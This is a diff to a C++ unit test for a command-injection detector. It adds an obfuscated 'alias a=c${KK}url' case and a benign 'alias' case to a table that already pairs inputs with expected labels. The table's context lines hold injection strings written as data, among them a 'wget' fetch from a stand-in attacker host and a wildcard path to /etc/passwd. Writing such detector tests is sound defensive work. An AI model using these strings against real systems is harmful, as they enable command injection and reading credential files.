@@ -24,6 +24,8 @@ TEST(CommandInjection, AttacksAreFound) {
       {"for /f %i in (x) do whoami", "command-injection: cmd for loop"},
       {"\nwget http://evil.example/x", "command-injection: command after shell separator"},
       {"cats & dogs", ""},
+      {"alias a=c${KK}url&a google.com", "command-injection: command alias"},
+      {"alias name=Robert", ""},
       {"/etc/pas[s]wd", "command-injection: wildcard path"},
       {"/usr/bin/[u]name -a", "command-injection: wildcard path"},
       {"use the regex /[a-z]+/ to match", ""},
